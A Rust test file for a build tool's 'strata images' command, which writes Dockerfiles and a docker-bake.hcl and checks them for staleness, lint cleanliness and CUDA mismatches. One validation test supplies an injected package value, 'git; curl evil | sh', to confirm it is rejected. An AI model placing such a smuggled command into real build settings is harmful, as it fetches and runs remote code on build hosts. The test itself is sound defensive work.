//! `strata images`: the project's images, the Dockerfiles strata writes and the generated
//! `docker-bake.hcl`, kept current in the example and checked for staleness, with real parsers
//! (python-hcl2) and linters (hadolint) as oracles. The real builds are in `lock::images`.

use crate::current_version;
use crate::support::images::{image_tool, parse_hcl};
use crate::support::{Project, example_project};

/// A project whose engine `hf` gets the Dockerfile strata writes.
const GENERATED_ENGINE: &str = "[profiles.base]\nrequirements = [\"numpy\"]\n\
    [engines.hf]\nextends = [\"base\"]\nversion = { file = \"v.yaml\", key = \"v\" }\n\
    image = { base = \"python:3.12-slim-bookworm\" }\n";

/// A project with every `[tool.strata.images]` setting: a role image with a dev stage on the
/// CPU base, a GPU engine on the GPU base whose lock needs the SSH agent.
const EVERY_SETTING: &str = "[images]\n\
    repository = \"registry.internal:5000/team/app\"\n\
    cpu-base = \"python:3.12-slim-bookworm\"\n\
    gpu-base = \"nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04\"\n\
    os-packages = [\"git\", \"git-lfs=3.3.0-1\"]\n\
    ca-bundle = \"certs/trust.pem\"\n\
    cache = \"registry.internal:5000/team/app-cache\"\n\
    platforms = [\"linux/amd64\", \"linux/arm64\"]\n\
    source = \"https://example.org/team/app\"\n\
    [profiles.base]\nrequirements = [\"numpy\"]\n\
    [profiles.backend]\nextends = [\"base\"]\nrequirements = [\"fastapi\"]\n\
    image = { dev = \"development\" }\n\
    [profiles.development]\nextends = [\"backend\"]\nrequirements = [\"pytest\"]\n\
    [engines.hf]\nextends = [\"base\"]\nversion = { file = \"v.yaml\", key = \"v\" }\n\
    gpu = true\nimage = {}\n\
    [engines.vl]\nextends = [\"base\"]\nversion = { file = \"v.yaml\", key = \"v\" }\ngpu = true\n\
    image = { upstream = \"vllm/vllm-openai:v{version}\", packages = \"docker/vl.packages.txt\" }\n";

/// [`EVERY_SETTING`]'s files, the engine's lock holding a `git+ssh` requirement.
fn every_setting() -> Project {
    Project::new(&[
        ("strata.toml", EVERY_SETTING),
        ("v.yaml", "v: \"1.0+cu124\"\n"),
        (
            "certs/trust.pem",
            "-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----\n",
        ),
        (
            "locks/hf.txt",
            "# strata-fingerprint: 0123\nprivate @ git+ssh://git@example.org/org/private.git@0123abcd\n",
        ),
        ("src/app/__init__.py", ""),
    ])
}

#[test]
fn the_examples_bake_file_is_current_and_lists_each_engines_image() {
    let project = Project::copy_of(&example_project());
    let output = project.strata(&["images", "--check"]).output();
    assert_eq!(
        output.code,
        0,
        "run `strata images --write` in examples/ml-engines\n{}",
        output.render()
    );
    let output = project.strata(&["images"]).output();
    assert_eq!(output.code, 0, "{}", output.render());
    let lines: Vec<&str> = output.stdout.lines().collect();
    assert!(
        lines[0].starts_with("backend          llmbench:backend-0.4.0  (its lock on python:")
            && lines[0].ends_with("dev stage llmbench:backend-0.4.0-dev adds development)"),
        "{lines:?}"
    );
    assert!(lines[1].starts_with("quantization") && lines[1].ends_with(", GPU)"));
    assert!(
        lines[2].starts_with("transformers     llmbench:transformers-"),
        "{lines:?}"
    );
    assert!(
        lines[3].contains("vllm/vllm-openai:v") && lines[3].contains("upstream, run as it is, GPU")
    );
    assert_eq!(lines.last().unwrap(), &"docker-bake.hcl: current");
    assert!(lines.contains(&"docker/backend.Dockerfile.dockerignore: current"));

    let output = project.strata(&["images", "--format", "json"]).output();
    let json: serde_json::Value = serde_json::from_str(&output.stdout).unwrap();
    assert_eq!(json["schema-version"], 1);
    assert_eq!(json["repository"], "llmbench");
    assert_eq!(json["bake-status"], "current");
    assert_eq!(json["images"][0]["name"], "backend");
    assert_eq!(json["images"][0]["engine"], false);
    assert_eq!(json["images"][0]["source"]["kind"], "generated");
    assert_eq!(json["images"][0]["source"]["dev"]["profile"], "development");
    assert_eq!(json["images"][2]["source"]["kind"], "dockerfile");
    assert_eq!(json["images"][3]["source"]["kind"], "upstream");
    assert_eq!(json["files"].as_array().unwrap().len(), 5);
}

#[test]
fn a_bump_makes_the_bake_file_stale_and_write_changes_only_that_engines_version() {
    let project = Project::copy_of(&example_project());
    let before = project.read("docker-bake.hcl");
    let current = current_version(&project, "transformers");
    project.edit(
        "engine_versions/transformers.yaml",
        &format!("\"{current}\""),
        "\"9.9.9\"",
    );
    let output = project.strata(&["images", "--check"]).output();
    assert_eq!(output.code, 1, "{}", output.render());
    assert!(
        output.stderr.contains("`docker-bake.hcl` is stale")
            && output.stderr.contains("run `strata images --write`"),
        "{}",
        output.render()
    );

    let output = project.strata(&["images", "--write"]).output();
    assert_eq!(output.code, 0, "{}", output.render());
    assert!(
        output.stderr.contains("Wrote `docker-bake.hcl`"),
        "{}",
        output.render()
    );
    let after = project.read("docker-bake.hcl");
    let changed: Vec<(&str, &str)> = before
        .lines()
        .zip(after.lines())
        .filter(|(old, new)| old != new)
        .collect();
    assert_eq!(before.lines().count(), after.lines().count());
    assert_eq!(
        changed,
        [(
            format!("  default     = \"{current}\"").as_str(),
            "  default     = \"9.9.9\""
        )],
        "only the variable's default moves: tags and labels use the variable"
    );
    let output = project.strata(&["images", "--check"]).output();
    assert_eq!(output.code, 0, "{}", output.render());
}

#[test]
fn a_missing_bake_file_fails_the_check_and_the_dockerfiles_arguments_decide_the_args() {
    let project = Project::new(&[
        (
            "strata.toml",
            "[profiles.base]\nrequirements = [\"numpy\"]\n\
             [engines.hf]\nextends = [\"base\"]\nversion = { file = \"v.yaml\", key = \"v\" }\n\
             image = { build = \"docker/hf.Dockerfile\", base = \"python:3.12-slim\" }\n",
        ),
        ("v.yaml", "v: \"1.0\"\n"),
        (
            "docker/hf.Dockerfile",
            "# syntax=docker/dockerfile:1\nARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nARG HF_VERSION LOCK\n",
        ),
    ]);
    let output = project.strata(&["images", "--check"]).output();
    assert_eq!(output.code, 1, "{}", output.render());
    assert!(
        output.stderr.contains("`docker-bake.hcl` does not exist"),
        "{}",
        output.render()
    );
    let output = project.strata(&["images", "--write"]).output();
    assert_eq!(output.code, 0, "{}", output.render());
    let bake = project.read("docker-bake.hcl");
    // Declared: BASE_IMAGE, HF_VERSION, LOCK; not declared: ENGINE_VERSION.
    assert!(bake.contains("    HF_VERSION = HF_VERSION\n"), "{bake}");
    assert!(
        bake.contains("    LOCK       = \"locks/hf.txt\"\n"),
        "{bake}"
    );
    assert!(
        bake.contains("    BASE_IMAGE = \"python:3.12-slim\"\n"),
        "{bake}"
    );
    assert!(!bake.contains("ENGINE_VERSION"), "{bake}");
    // No lock yet: no fingerprint label.
    assert!(!bake.contains("lock-fingerprint"), "{bake}");
    assert!(
        bake.contains("tags        = [\"${REPOSITORY}:hf-${HF_VERSION}\"]"),
        "{bake}"
    );
}

#[test]
fn the_bake_file_parses_with_a_real_hcl_parser_and_says_what_strata_planned() {
    let Some(python) = image_tool("python") else {
        return;
    };
    let project = Project::copy_of(&example_project());
    let bake = parse_hcl(&python, &project.dir().join("docker-bake.hcl"));
    let version = current_version(&project, "transformers");
    assert_eq!(bake["variable"]["REPOSITORY"]["default"], "llmbench");
    assert_eq!(bake["variable"]["TRANSFORMERS_VERSION"]["default"], version);
    assert_eq!(
        bake["group"]["default"]["targets"],
        serde_json::json!(["backend", "quantization", "transformers"])
    );
    assert_eq!(
        bake["group"]["gpu"]["targets"],
        serde_json::json!(["quantization"])
    );
    assert_eq!(
        bake["group"]["dev"]["targets"],
        serde_json::json!(["backend-dev"])
    );
    assert_eq!(
        bake["target"]["_common"]["platforms"],
        serde_json::json!(["linux/amd64"])
    );
    let backend = &bake["target"]["backend-dev"];
    assert_eq!(backend["dockerfile"], "docker/backend.Dockerfile");
    assert_eq!(backend["target"], "dev");
    assert_eq!(
        backend["contexts"],
        serde_json::json!({ "base": "docker-image://python:3.11-slim-bookworm" })
    );
    assert_eq!(
        backend["tags"],
        serde_json::json!(["${REPOSITORY}:backend-${VERSION}-dev"])
    );
    assert_eq!(bake["variable"]["VERSION"]["default"], "0.4.0");
    let target = &bake["target"]["transformers"];
    assert_eq!(target["dockerfile"], "docker/Dockerfile.transformers");
    assert_eq!(
        target["inherits"],
        serde_json::json!(["_common", "docker-metadata-action"])
    );
    assert_eq!(bake["target"]["_common"]["context"], ".");
    assert_eq!(
        target["tags"],
        serde_json::json!(["${REPOSITORY}:transformers-${TRANSFORMERS_VERSION}"])
    );
    // The example's Dockerfile declares only BASE_IMAGE, and gets the manifest's base.
    assert_eq!(
        target["args"],
        serde_json::json!({ "BASE_IMAGE": "python:3.11-slim-bookworm" })
    );
    let lock = project.read("locks/transformers.txt");
    let fingerprint = lock
        .lines()
        .find_map(|line| line.strip_prefix("# strata-fingerprint: "))
        .unwrap();
    assert_eq!(target["labels"]["dev.strata.lock-fingerprint"], fingerprint);
    // No upstream engine has a target: they run as they are.
    assert!(bake["target"].get("vllm").is_none());
}

#[test]
fn every_images_setting_reaches_the_bake_file_and_the_dockerfiles() {
    let Some(python) = image_tool("python") else {
        return;
    };
    let project = every_setting();
    let output = project.strata(&["images", "--write"]).output();
    assert_eq!(output.code, 0, "{}", output.render());
    let bake = parse_hcl(&python, &project.dir().join("docker-bake.hcl"));
    let common = &bake["target"]["_common"];
    assert_eq!(common["context"], ".");
    assert_eq!(
        common["platforms"],
        serde_json::json!(["linux/amd64", "linux/arm64"])
    );
    assert_eq!(
        common["labels"]["org.opencontainers.image.source"],
        "https://example.org/team/app"
    );
    assert_eq!(
        common["labels"]["org.opencontainers.image.revision"],
        "REVISION"
    );
    assert_eq!(
        bake["variable"]["REPOSITORY"]["default"],
        "registry.internal:5000/team/app"
    );
    assert_eq!(bake["variable"]["HF_VERSION"]["default"], "1.0+cu124");
    assert_eq!(
        bake["group"]["default"]["targets"],
        serde_json::json!(["backend", "hf", "vl"])
    );
    assert_eq!(
        bake["group"]["cpu"]["targets"],
        serde_json::json!(["backend"])
    );
    assert_eq!(
        bake["group"]["gpu"]["targets"],
        serde_json::json!(["hf", "vl"])
    );
    assert_eq!(
        bake["group"]["dev"]["targets"],
        serde_json::json!(["backend-dev"])
    );
    // Target by target: Dockerfile, stage, base, tags, caches, secret, SSH.
    let expect = [
        (
            "backend",
            "docker/backend.Dockerfile",
            "runtime",
            "python:3.12-slim-bookworm",
            "${REPOSITORY}:backend",
            false,
        ),
        (
            "backend-dev",
            "docker/backend.Dockerfile",
            "dev",
            "python:3.12-slim-bookworm",
            "${REPOSITORY}:backend-dev",
            false,
        ),
        (
            "hf",
            "docker/hf.Dockerfile",
            "runtime",
            "nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04",
            "${REPOSITORY}:hf-${HF_VERSION}",
            true,
        ),
        // The overlay of an upstream engine follows the engine's version variable.
        (
            "vl",
            "docker/vl.Dockerfile",
            "runtime",
            "vllm/vllm-openai:v${VL_VERSION}",
            "${REPOSITORY}:vl-${VL_VERSION}",
            false,
        ),
    ];
    for (name, dockerfile, stage, base, tag, ssh) in expect {
        let target = &bake["target"][name];
        assert_eq!(target["dockerfile"], dockerfile, "{name}");
        assert_eq!(target["target"], stage, "{name}");
        assert_eq!(
            target["contexts"],
            serde_json::json!({ "base": format!("docker-image://{base}") }),
            "{name}"
        );
        assert_eq!(target["tags"], serde_json::json!([tag]), "{name}");
        let cache = format!("registry.internal:5000/team/app-cache:buildcache-{name}");
        assert_eq!(
            target["cache-from"],
            serde_json::json!([format!("type=registry,ref={cache}")]),
            "{name}"
        );
        assert_eq!(
            target["cache-to"],
            serde_json::json!([format!(
                "type=registry,ref={cache},mode=max,ignore-error=true"
            )]),
            "{name}"
        );
        assert_eq!(
            target["secret"],
            serde_json::json!(["id=pip-conf,env=STRATA_PIP_CONF"]),
            "{name}"
        );
        assert_eq!(
            target.get("ssh").cloned(),
            ssh.then(|| serde_json::json!(["default"])),
            "{name}"
        );
        assert!(target.get("args").is_none(), "{name}");
    }
    // No static project version: the role image is tagged with its name alone.
    assert!(bake["variable"].get("VERSION").is_none());

    let backend = project.read("docker/backend.Dockerfile");
    for line in [
        "FROM base AS system\n",
        "COPY certs/trust.pem /usr/local/share/ca-certificates/strata-ca-bundle.crt\n",
        "RUN update-ca-certificates\n",
        "ENV PIP_CERT=/etc/ssl/certs/ca-certificates.crt \\\n",
        "FROM system AS builder\n",
        "--mount=type=bind,source=locks/backend.txt,target=/tmp/lock.txt",
        "FROM system AS runtime\n",
        "    PYTHONPATH=/workspace/src\n",
        "FROM runtime AS dev\n",
        "--mount=type=bind,source=locks/development.txt,target=/tmp/lock.txt",
    ] {
        assert!(backend.contains(line), "no `{line}` in\n{backend}");
    }
    // The CA bundle needs update-ca-certificates: apt installs it with the other packages.
    assert!(
        backend.contains("       ca-certificates git git-lfs=3.3.0-1"),
        "{backend}"
    );
    assert!(!backend.contains("type=ssh"), "{backend}");
    let overlay = project.read("docker/vl.Dockerfile");
    assert!(
        overlay.contains("FROM base AS runtime\n")
            && overlay.contains("    python3 -m pip install --no-deps --require-hashes")
            && !overlay.contains("USER")
            && !overlay.contains("venv"),
        "{overlay}"
    );
    assert_eq!(
        project
            .read("docker/vl.Dockerfile.dockerignore")
            .lines()
            .last(),
        Some("!locks/vl.txt")
    );
    let hf = project.read("docker/hf.Dockerfile");
    assert!(hf.contains("    --mount=type=ssh \\\n"), "{hf}");
    assert!(!hf.contains("AS dev"), "{hf}");
    assert_eq!(
        project.read("docker/backend.Dockerfile.dockerignore"),
        "# Generated by `strata images --write` with docker/backend.Dockerfile: its build reads only\n\
         # these files.\n*\n!locks/backend.txt\n!locks/development.txt\n!certs/trust.pem\n"
    );
}

#[test]
fn images_settings_that_would_break_a_build_are_rejected_with_their_line() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "os-packages = [\"git\", \"git-lfs=3.3.0-1\"]",
            "os-packages = [\"git; curl evil | sh\"]",
            "Invalid images.os-packages `git; curl evil | sh`",
        ),
        (
            "platforms = [\"linux/amd64\", \"linux/arm64\"]",
            "platforms = [\"amd64\"]",
            "Invalid images.platforms `amd64`",
        ),
        (
            "ca-bundle = \"certs/trust.pem\"",
            "ca-bundle = \"certs/missing.pem\"",
            "no such file",
        ),
        (
            "gpu-base = \"nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04\"\n",
            "",
            "`[tool.strata.images]` has no `gpu-base`",
        ),
        (
            "image = { dev = \"development\" }",
            "image = { dev = \"base\" }",
            "`base` does not extend `backend`",
        ),
        (
            "image = { dev = \"development\" }",
            "image = { upstream = \"python:{version}\" }",
            "Unknown key `upstream` in `profiles.backend.image`",
        ),
    ];
    for (old, new, message) in cases {
        let project = every_setting();
        project.edit("strata.toml", old, new);
        let output = project.strata(&["images"]).output();
        assert_eq!(output.code, 2, "{new}: {}", output.render());
        assert!(
            output.stderr.contains(message) && output.stderr.contains("strata.toml:"),
            "{new}: {}",
            output.render()
        );
    }
}

#[test]
fn check_detects_each_kind_of_staleness_and_write_makes_it_current_again() {
    // Each edit changes one input of the bake file: the repository, a Dockerfile's declared
    // arguments, the lock (its fingerprint label), the base image.
    let edits: &[(&str, &str, &str)] = &[
        (
            "pyproject.toml",
            "repository = \"llmbench\"",
            "repository = \"team/llmbench\"",
        ),
        (
            "docker/Dockerfile.transformers",
            "FROM ${BASE_IMAGE}\n",
            "FROM ${BASE_IMAGE}\nARG LOCK=locks/transformers.txt\n",
        ),
        (
            "locks/transformers.txt",
            "# strata-fingerprint: ",
            "# strata-fingerprint: 0",
        ),
        (
            "pyproject.toml",
            "Dockerfile.transformers\", base = \"python:3.11-",
            "Dockerfile.transformers\", base = \"python:3.12-",
        ),
        (
            "pyproject.toml",
            "os-packages = [\"git\", \"git-lfs\"]",
            "os-packages = [\"git\"]",
        ),
        ("pyproject.toml", "dev = \"development\"", "dev = \"build\""),
        (
            "docker/backend.Dockerfile.dockerignore",
            "!locks/development.txt\n",
            "",
        ),
    ];
    for (file, old, new) in edits {
        let project = Project::copy_of(&example_project());
        assert!(project.read(file).contains(old), "{file} has no `{old}`");
        project.edit(file, old, new);
        let output = project.strata(&["images", "--check"]).output();
        assert_eq!(output.code, 1, "{file}: {}", output.render());
        assert!(output.stderr.contains("is stale"), "{}", output.render());
        let output = project.strata(&["images", "--write"]).output();
        assert_eq!(output.code, 0, "{}", output.render());
        let output = project.strata(&["images", "--check"]).output();
        assert_eq!(output.code, 0, "{file}: {}", output.render());
    }
}

#[test]
fn the_generated_dockerfiles_lint_clean_with_hadolint() {
    let Some(hadolint) = image_tool("hadolint") else {
        return;
    };
    // Every shape: the plain one; one with a system stage, a dev stage and the SSH agent; and
    // the example's.
    let plain = Project::new(&[
        ("strata.toml", GENERATED_ENGINE),
        ("v.yaml", "v: \"1.0\"\n"),
        ("src/hf/__init__.py", ""),
    ]);
    let every = every_setting();
    let example = Project::copy_of(&example_project());
    let mut linted = 0;
    for project in [&plain, &every, &example] {
        let output = project.strata(&["images", "--write"]).output();
        assert_eq!(output.code, 0, "{}", output.render());
        for entry in fs_err::read_dir(project.dir().join("docker")).unwrap() {
            let path = entry.unwrap().path();
            let text = fs_err::read_to_string(&path).unwrap();
            if !text.contains("Generated by `strata images --write` for") {
                continue;
            }
            // Nothing at all, not even at the info level.
            let lint = std::process::Command::new(&hadolint)
                .args(["--no-color", "--failure-threshold", "info"])
                .arg(&path)
                .output()
                .unwrap();
            assert!(
                lint.status.success() && lint.stdout.is_empty(),
                "{}: {}{}",
                path.display(),
                String::from_utf8_lossy(&lint.stdout),
                String::from_utf8_lossy(&lint.stderr)
            );
            linted += 1;
        }
    }
    assert_eq!(
        linted, 6,
        "hf; backend, hf and vl; backend and quantization"
    );
    let bake = plain.read("docker-bake.hcl");
    assert!(
        bake.contains("  target      = \"runtime\"\n")
            && bake.contains(
                "  contexts    = { base = \"docker-image://python:3.12-slim-bookworm\" }\n"
            ),
        "{bake}"
    );
}

#[test]
fn write_never_overwrites_a_dockerfile_strata_did_not_write() {
    let project = Project::new(&[
        ("strata.toml", GENERATED_ENGINE),
        ("v.yaml", "v: \"1.0\"\n"),
        ("docker/hf.Dockerfile", "FROM python:3.12\n"),
    ]);
    let output = project.strata(&["images", "--write"]).output();
    assert_eq!(output.code, 2, "{}", output.render());
    assert!(
        output
            .stderr
            .contains("`docker/hf.Dockerfile` exists and was not written by strata"),
        "{}",
        output.render()
    );
    assert_eq!(project.read("docker/hf.Dockerfile"), "FROM python:3.12\n");
}

#[test]
fn a_lock_whose_cuda_wheels_disagree_with_or_duplicate_the_base_is_warned_about() {
    let manifest = "[images]\n\
        gpu-base = \"nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04\"\n\
        [profiles.base]\nrequirements = [\"numpy\"]\n\
        [profiles.cu12]\nextends = [\"base\"]\nrequirements = [\"torch\"]\nimage = { base = \"gpu\" }\n\
        [profiles.cu13]\nextends = [\"base\"]\nrequirements = [\"torch\"]\nimage = { base = \"gpu\" }\n\
        [profiles.cpu]\nextends = [\"base\"]\nrequirements = [\"torch\"]\n\
        image = { base = \"python:3.12-slim\" }\n";
    let lock = |wheels: &str| format!("numpy==1.26.4\n{wheels}torch==2.5.1\n");
    let cu12 = lock("nvidia-cublas-cu12==12.4.5.8\nnvidia-cuda-runtime-cu12==12.4.127\n");
    let cu13 = lock("nvidia-cublas==13.0.0.19\nnvidia-cuda-runtime==13.0.48\n");
    let project = Project::new(&[
        ("strata.toml", manifest),
        ("locks/cu12.txt", &cu12),
        ("locks/cu13.txt", &cu13),
        ("locks/cpu.txt", &cu12),
    ]);
    let output = project.strata(&["images"]).output();
    assert_eq!(output.code, 0, "{}", output.render());
    let warnings: Vec<&str> = output
        .stderr
        .lines()
        .filter(|line| line.starts_with("warning:"))
        .collect();
    assert_eq!(warnings.len(), 2, "{}", output.render());
    assert!(
        warnings[0].starts_with("warning: `cu12`'s image: the base image nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04 already ships")
            && warnings[0].contains("nvidia-cublas-cu12"),
        "{}",
        warnings[0]
    );
    assert!(
        warnings[1].starts_with("warning: `cu13`'s image: the lock pins CUDA 13 wheels")
            && warnings[1].contains("provides CUDA 12"),
        "{}",
        warnings[1]
    );
    // A plain Python base has no CUDA of its own: the wheels' is the only one.
    assert!(
        !output.stderr.contains("`cpu`'s image"),
        "{}",
        output.render()
    );

    let output = project.strata(&["images", "--format", "json"]).output();
    let json: serde_json::Value = serde_json::from_str(&output.stdout).unwrap();
    let kinds: Vec<(&str, &str)> = json["cuda-warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|warning| {
            (
                warning["image"].as_str().unwrap(),
                warning["kind"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        kinds,
        [("cu12", "duplicate-libraries"), ("cu13", "major-mismatch")]
    );
}

#[test]
fn a_lock_of_several_targets_is_checked_on_the_lines_its_linux_targets_install() {
    let manifest = "[images]\n\
        gpu-base = \"nvidia/cuda:12.4.1-base-ubuntu22.04\"\n\
        [profiles.gpu]\nrequirements = [\"torch\"]\nimage = { base = \"gpu\" }\n\
        targets = [{ python-version = \"3.12\", python-platform = \"aarch64-apple-darwin\" }, \
        { python-version = \"3.11\", python-platform = \"x86_64-manylinux_2_28\" }]\n";
    // The macOS line comes first: read as one list, its torch (no CUDA) would hide the Linux
    // one, a build for CUDA 11 on a CUDA 12 base.
    let lock = |linux_torch: &str| {
        format!(
            "# This file was generated by strata for profile `gpu` (Python 3.12 on \
             aarch64-apple-darwin, Python 3.11 on x86_64-manylinux_2_28) by:\n\
             numpy==1.26.4\n\
             torch==2.5.1 ; sys_platform == 'darwin'\n\
             torch=={linux_torch} ; sys_platform == 'linux'\n"
        )
    };
    let project = Project::new(&[
        ("strata.toml", manifest),
        ("locks/gpu.txt", &lock("2.5.1+cu118")),
    ]);
    let output = project.strata(&["images"]).output();
    assert_eq!(output.code, 0, "{}", output.render());
    assert!(
        output.stderr.contains(
            "warning: `gpu`'s image: the lock pins CUDA 11 wheels (torch) but the base image \
             nvidia/cuda:12.4.1-base-ubuntu22.04 provides CUDA 12"
        ),
        "{}",
        output.render()
    );

    project.write("locks/gpu.txt", &lock("2.5.1+cu124"));
    let output = project.strata(&["images"]).output();
    assert_eq!(output.code, 0, "{}", output.render());
    assert!(!output.stderr.contains("warning:"), "{}", output.render());
}
